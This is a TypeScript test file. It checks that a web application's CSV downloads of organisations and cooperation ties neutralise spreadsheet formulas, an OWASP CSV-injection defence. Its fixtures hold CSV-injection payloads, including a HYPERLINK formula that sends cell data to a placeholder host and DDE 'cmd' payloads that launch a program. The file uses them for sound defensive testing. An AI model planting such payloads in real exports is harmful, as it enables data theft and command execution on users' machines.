// Every CSV download keeps would-be spreadsheet formulas inert (CSV injection,
// OWASP): a text cell starting with =, +, -, @, a tab or a carriage return
// (or spaces then one of the first four) is written with a leading
// apostrophe and otherwise unchanged; numbers stay numbers. Read back with
// Python's csv module, not with the code that wrote the files.
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, type TestServer } from "../support/server.ts";
import { createScratchDatabase, query, type ScratchDatabase } from "../support/database.ts";

const READ_CSV = `
import csv, json, sys
text = sys.stdin.buffer.read().decode("utf-8-sig")
delimiter = sys.argv[1]
rows = list(csv.reader(text.splitlines(keepends=True), delimiter=delimiter))
print(json.dumps({"header": rows[0], "rows": rows[1:]}))
`;

function readCsv(text: string, delimiter: string): { header: string[]; rows: string[][] } {
  return JSON.parse(execFileSync("/usr/bin/python3", ["-c", READ_CSV, delimiter], { input: text, encoding: "utf8" }));
}

/** Names a spreadsheet would run, and what the CSV must hold instead. */
const HOSTILE: { id: string; name: string; written: string }[] = [
  { id: "formula-hyperlink", name: '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")', written: `'=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez")` },
  { id: "formula-plus", name: "+cmd|' /C calc'!A0", written: "'+cmd|' /C calc'!A0" },
  { id: "formula-at", name: "@SUM(1+9)*cmd|' /C calc'!A0", written: "'@SUM(1+9)*cmd|' /C calc'!A0" },
  { id: "formula-minus", name: "-2+3", written: "'-2+3" },
  { id: "formula-tab", name: "\t=1+1", written: "'\t=1+1" },
  { id: "formula-cr", name: "\r=1+1", written: "'\r=1+1" },
  { id: "formula-spaces", name: "   =1+1", written: "'   =1+1" },
];
const HARMLESS = { id: "harmless", name: "Coopérative « L'Envol » = solidaire, 2 + 2", jobs: 12 };
const PHONE = "+33 3 21 00 00 00";
/** The start of a cell a spreadsheet would read as a formula. */
const ARMED = /^(?:[\t\r]|\s*[=+\-@])/;

let scratch: ScratchDatabase;
let server: TestServer;

beforeAll(async () => {
  scratch = await createScratchDatabase();
  const all = [...HOSTILE.map(({ id, name }) => ({ id, name, jobs: null as number | null })), HARMLESS];
  for (const organisation of all) {
    await query(
      scratch.url,
      `INSERT INTO organisation (id, name, short_name, legal_form, legal_form_certainty, family, sectors, headcount, public_phone, search_text, updated_at)
       VALUES ($1, $2, $3, 'ASSOCIATION', 'STATED', 'ASSOCIATION', '{CULTURE}', $4, $5, $1, now())`,
      [organisation.id, organisation.name, organisation.id === HARMLESS.id ? "-" : null, organisation.jobs, organisation.id === HARMLESS.id ? PHONE : null],
    );
  }
  // Ties, so that every organisation is a node with edges.
  for (const { id } of HOSTILE) {
    await query(
      scratch.url,
      `INSERT INTO cooperation (id, kind, organisation_a_id, organisation_b_id) VALUES ($1, 'MUTUALISATION', $2, $3)`,
      [`tie-${id}`, id, HARMLESS.id],
    );
  }
  server = await startTestServer({ databaseUrl: scratch.url });
}, 120_000);

afterAll(async () => {
  await server?.close();
  await scratch?.drop();
});

async function csvOf(path: string, delimiter: string) {
  const response = await fetch(`${server.url}${path}`);
  expect(response.status).toBe(200);
  return readCsv(await response.text(), delimiter);
}

describe("CSV downloads keep formulas inert", () => {
  it("organisations.csv: hostile names get a leading apostrophe, the rest of the cell unchanged", async () => {
    const { header, rows } = await csvOf("/exports/organisations.csv", ";");
    const column = (name: string) => header.indexOf(name);
    const byId = new Map(rows.map((row) => [row[column("Identifiant")], row]));
    for (const { id, written } of HOSTILE) expect(byId.get(id)![column("Nom")]).toBe(written);
    const harmless = byId.get(HARMLESS.id)!;
    expect(harmless[column("Nom")]).toBe(HARMLESS.name);
    expect(harmless[column("Sigle")]).toBe("'-");
    expect(harmless[column("Téléphone")]).toBe(`'${PHONE}`);
    // Numbers are written as numbers.
    expect(harmless[column("Emplois")]).toBe("12");
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(ARMED);
  });

  it("cooperation-nodes.csv and cooperation-edges.csv: the same rule, numbers and booleans as they are", async () => {
    const nodes = await csvOf("/exports/cooperation-nodes.csv", ",");
    const byId = new Map(nodes.rows.map((row) => [row[0], row]));
    for (const { id, written } of HOSTILE) expect(byId.get(id)![nodes.header.indexOf("label")]).toBe(written);
    const harmless = byId.get(HARMLESS.id)!;
    expect(harmless[nodes.header.indexOf("label")]).toBe(HARMLESS.name);
    expect(harmless[nodes.header.indexOf("jobs")]).toBe("12");
    expect(harmless[nodes.header.indexOf("in_scope")]).toBe("true");
    for (const row of nodes.rows) for (const cell of row) expect(cell).not.toMatch(ARMED);

    const edges = await csvOf("/exports/cooperation-edges.csv", ",");
    expect(edges.rows).toHaveLength(HOSTILE.length);
    for (const row of edges.rows) {
      expect(row[edges.header.indexOf("weight")]).toBe("1");
      for (const cell of row) expect(cell).not.toMatch(ARMED);
    }
  });
});
